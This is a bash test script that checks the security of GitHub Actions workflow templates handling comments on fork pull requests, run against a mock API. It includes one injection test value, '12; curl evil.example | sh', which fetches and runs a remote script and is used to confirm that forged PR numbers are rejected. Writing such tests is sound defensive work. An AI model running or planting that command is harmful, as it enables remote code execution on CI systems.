#!/usr/bin/env bash
# Fork pull requests: the diff workflow template saves the validate comment as an artifact
# instead of commenting (its token is read-only), and letta-sync-diff-comment.yml (workflow_run)
# posts it without checking out or running anything of the fork's, after checking that the
# artifact's PR number is a number whose pull request is the run's commit. Its github-script
# runs here against a mock GitHub API (tests/tools/run-github-script.mjs), as does the same-repo
# comment step of the diff workflow (create, then update in place).
. "$(dirname "$0")/lib-e2e.sh"
[ -d "$LS_SOURCE_DIR/scripts/lint/node_modules/yaml" ] || fail "no yaml npm package: run 'make deps'"
wfdir=$LS_SOURCE_DIR/templates/github/workflows
comment_wf=$wfdir/letta-sync-diff-comment.yml
diff_wf=$wfdir/letta-sync-diff.yml
yaml2json() {
	node --input-type=module -e "import { parse } from '$LS_SOURCE_DIR/scripts/lint/node_modules/yaml/dist/index.js';
import { readFileSync } from 'node:fs';
process.stdout.write(JSON.stringify(parse(readFileSync(process.argv[1], 'utf8'))));" "$1"
}

# The comment workflow: triggered by the diff workflow's runs, no checkout, no run step, no
# write permission but pull requests, only for pull requests from forks.
yaml2json "$comment_wf" >"$TMP/comment.json"
jq -e '.on.workflow_run.workflows == ["letta-sync diff"] and .on.workflow_run.types == ["completed"]' \
	"$TMP/comment.json" >/dev/null || fail "not triggered by the diff workflow's runs"
jq -e '[.jobs[].steps[] | select((.uses // "") | test("checkout"))] | length == 0' "$TMP/comment.json" >/dev/null ||
	fail "the comment workflow checks out code"
jq -e '[.jobs[].steps[] | select(.run)] | length == 0' "$TMP/comment.json" >/dev/null ||
	fail "the comment workflow runs shell steps"
jq -e '.permissions == {"actions": "read", "pull-requests": "write"}' "$TMP/comment.json" >/dev/null ||
	fail "permissions: $(jq -c .permissions "$TMP/comment.json")"
jq -e '.jobs.comment.if | test("head_repository.full_name != github.repository")' "$TMP/comment.json" >/dev/null ||
	fail "the comment job is not limited to forks"
# The diff workflow: a fork's run uploads the comment; only a same-repo run comments itself.
yaml2json "$diff_wf" >"$TMP/diff.json"
jq -e '[.jobs.diff.steps[] | select(.uses == "actions/upload-artifact@v4")][0] |
	.with.name == "letta-sync-comment" and (.if | test("IS_FORK == .true."))' "$TMP/diff.json" >/dev/null ||
	fail "the fork's comment is not uploaded"
jq -e '[.jobs.diff.steps[] | select(.name == "Comment on the pull request")][0].if | test("IS_FORK != .true.")' \
	"$TMP/diff.json" >/dev/null || fail "a fork's run tries to comment"
jq -e '.workflow_run == null' <(jq '.on' "$TMP/diff.json") >/dev/null

# script STEP-WORKFLOW STEP-NAME STATE: runs a github-script step; result in $TMP/r.json.
script() {
	node "$LS_SOURCE_DIR/tests/tools/run-github-script.mjs" "$1" "$2" "$TMP/state.json" >"$TMP/r.json" ||
		fail "the script failed: $(cat "$TMP/r.json")"
}
art=$TMP/artifact
mkdir -p "$art"
printf '## letta-sync diff\n\n:white_check_mark: valid\n' >"$art/comment.md"
sha=0123456789abcdef0123456789abcdef01234567
state() { # PR-NUMBER-TEXT HEAD-SHA-OF-PR COMMENTS-JSON
	printf '%s' "$1" >"$art/pr-number"
	jq -n --arg dir "$art" --arg sha "$sha" --arg prsha "$2" --argjson comments "$3" \
		'{env: {COMMENT_DIR: $dir, HEAD_SHA: $sha}, pulls: {"12": {head: {sha: $prsha}}}, comments: $comments}' \
		>"$TMP/state.json"
}

state 12 "$sha" '[{"id": 5, "body": "LGTM"}]'
script "$comment_wf" "Comment on the pull request"
jq -e '.failed == null and (.calls | length) == 2 and .calls[1].call == "createComment" and
	.calls[1].issue_number == 12 and (.calls[1].body | startswith("<!-- letta-sync-diff -->\n## letta-sync diff"))' \
	"$TMP/r.json" >/dev/null || fail "no comment: $(cat "$TMP/r.json")"
state 12 "$sha" '[{"id": 5, "body": "LGTM"}, {"id": 9, "body": "<!-- letta-sync-diff -->\nold"}]'
script "$comment_wf" "Comment on the pull request"
jq -e '.calls[1].call == "updateComment" and .calls[1].comment_id == 9' "$TMP/r.json" >/dev/null ||
	fail "the comment is not updated in place: $(cat "$TMP/r.json")"
# A forged PR number: not a number, or another pull request than the run's commit.
state '12; curl evil.example | sh' "$sha" '[]'
script "$comment_wf" "Comment on the pull request"
jq -e '(.calls | length) == 0 and (.failed | test("not a number"))' "$TMP/r.json" >/dev/null ||
	fail "a forged PR number was used: $(cat "$TMP/r.json")"
state 12 ffffffffffffffffffffffffffffffffffffffff '[]'
script "$comment_wf" "Comment on the pull request"
jq -e '(.calls | map(.call)) == ["pulls.get"] and (.failed | test("is not the pull request of commit"))' \
	"$TMP/r.json" >/dev/null || fail "another PR's comment was posted: $(cat "$TMP/r.json")"

# The same-repo comment step of the diff workflow: create, then update.
jq -n --arg f "$art/comment.md" '{env: {COMMENT_FILE: $f}, payload: {pull_request: {number: 7}}, comments: []}' \
	>"$TMP/state.json"
script "$diff_wf" "Comment on the pull request"
jq -e '.calls == [{"call": "createComment", "issue_number": 7, "body": ("<!-- letta-sync-diff -->\n" + $c)}]' \
	--arg c "$(cat "$art/comment.md")
" "$TMP/r.json" >/dev/null || fail "diff workflow comment: $(cat "$TMP/r.json")"
echo ok
